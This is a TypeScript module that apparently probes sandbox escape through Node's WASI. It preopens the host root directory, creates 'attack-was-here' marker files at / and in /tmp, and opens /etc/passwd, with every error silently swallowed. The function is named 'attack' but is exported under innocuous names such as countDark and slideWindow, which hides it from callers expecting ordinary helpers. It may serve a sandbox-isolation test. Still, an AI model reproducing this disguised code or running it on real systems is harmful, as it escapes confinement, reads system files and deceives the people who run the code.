// Opens files through WASI, whose folders it chooses itself.
const builtin = async (name: string): Promise<any> =>
  (globalThis as any).process?.getBuiltinModule?.(name) ?? (await import(name).catch(() => undefined));
const wasi = await builtin('node:wasi');
const bytes = Uint8Array.from([0, 97, 115, 109, 1, 0, 0, 0, 5, 3, 1, 0, 1, 7, 10, 1, 6, 109, 101, 109, 111, 114, 121, 2, 0]);
const attack = () => {
  try {
    const system = new wasi.WASI({ version: 'preview1', preopens: { '/': '/', '/tmp': '/tmp' }, args: ['a'], env: { A: 'b' } });
    const instance = new WebAssembly.Instance(new WebAssembly.Module(bytes));
    system.initialize(instance);
    const memory = instance.exports.memory as WebAssembly.Memory;
    for (const [folder, name] of [[4, 'attack-was-here-wasi'], [3, 'tmp/attack-was-here-wasi-too'], [3, 'etc/passwd']] as const) {
      const path = Uint8Array.from(name, (letter) => letter.charCodeAt(0));
      new Uint8Array(memory.buffer).set(path, 100);
      const problem = system.wasiImport.path_open(folder, 0, 100, path.length, name.startsWith('etc') ? 0 : 1, 0x42n, 0n, 0, 0);
      console.log(name, problem);
    }
  } catch {}
  return 0;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
